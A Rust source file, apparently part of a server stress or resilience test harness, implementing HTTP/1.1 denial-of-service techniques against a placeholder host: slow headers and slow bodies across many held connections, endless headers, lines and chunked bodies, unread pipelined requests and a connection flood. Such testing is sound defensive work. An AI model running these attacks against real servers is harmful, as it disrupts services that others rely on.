//! HTTP/1.1 by hand.

use anyhow::Result;

use super::{attacker::Attacker, http2::path};

/// Connections that one attacker holds.
const MANY: usize = 40;

fn on_many(attacker: &Attacker, start: &str, byte: u8) -> Result<()> {
    let mut held = Vec::new();
    for _ in 0..MANY {
        let Ok(mut stream) = attacker.http1() else { break };
        attacker.write(&mut *stream, start.as_bytes())?;
        held.push(stream);
    }
    while attacker.goes_on() {
        for stream in &mut held {
            // Those that were closed meanwhile are no loss.
            let _ = attacker.write(&mut **stream, &[byte]);
        }
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    Ok(())
}

/// Headers byte by byte.
pub(super) fn slow_headers(attacker: &Attacker) -> Result<()> {
    on_many(attacker, "GET / HTTP/1.1\r\nHost: county.example\r\nX: ", b'a')
}

/// A form byte by byte.
pub(super) fn slow_body(attacker: &Attacker) -> Result<()> {
    let start = format!(
        "POST {} HTTP/1.1\r\nHost: county.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 9000\r\n\r\n",
        path(attacker.port)
    );
    on_many(attacker, &start, b'a')
}

/// Headers that never end.
pub(super) fn endless_headers(attacker: &Attacker) -> Result<()> {
    let mut stream = attacker.http1()?;
    attacker.write(&mut *stream, b"GET / HTTP/1.1\r\nHost: county.example\r\n")?;
    attacker.flood(&mut *stream, "X-Header: of no use at all\r\n".repeat(100).as_bytes())
}

/// A line that never ends.
pub(super) fn endless_line(attacker: &Attacker) -> Result<()> {
    let mut stream = attacker.http1()?;
    attacker.write(&mut *stream, b"GET /")?;
    attacker.flood(&mut *stream, &[b'a'; 8 << 10])
}

/// A body in chunks without end, each with a long word beside its size.
pub(super) fn endless_chunks(attacker: &Attacker) -> Result<()> {
    let mut stream = attacker.http1()?;
    let start = format!(
        "POST {} HTTP/1.1\r\nHost: county.example\r\nTransfer-Encoding: chunked\r\n\r\n",
        path(attacker.port)
    );
    attacker.write(&mut *stream, start.as_bytes())?;
    attacker.flood(&mut *stream, format!("1;{}\r\na\r\n", "x".repeat(1_000)).repeat(8).as_bytes())
}

/// Requests one behind the other, and no answer read.
pub(super) fn unread_pipeline(attacker: &Attacker) -> Result<()> {
    let mut stream = attacker.http1()?;
    let request = format!("GET {} HTTP/1.1\r\nHost: county.example\r\n\r\n", path(attacker.port));
    attacker.flood(&mut *stream, request.repeat(100).as_bytes())
}

/// Requests on new connections, as many as it can.
pub(super) fn requests(attacker: &Attacker) -> Result<()> {
    let request =
        format!("GET {} HTTP/1.1\r\nHost: county.example\r\nConnection: close\r\n\r\n", path(attacker.port));
    while attacker.goes_on() {
        let mut stream = attacker.http1()?;
        attacker.write(&mut *stream, request.as_bytes())?;
        // An end without a word is an end.
        let _ = attacker.read_out(&mut *stream);
    }
    Ok(())
}
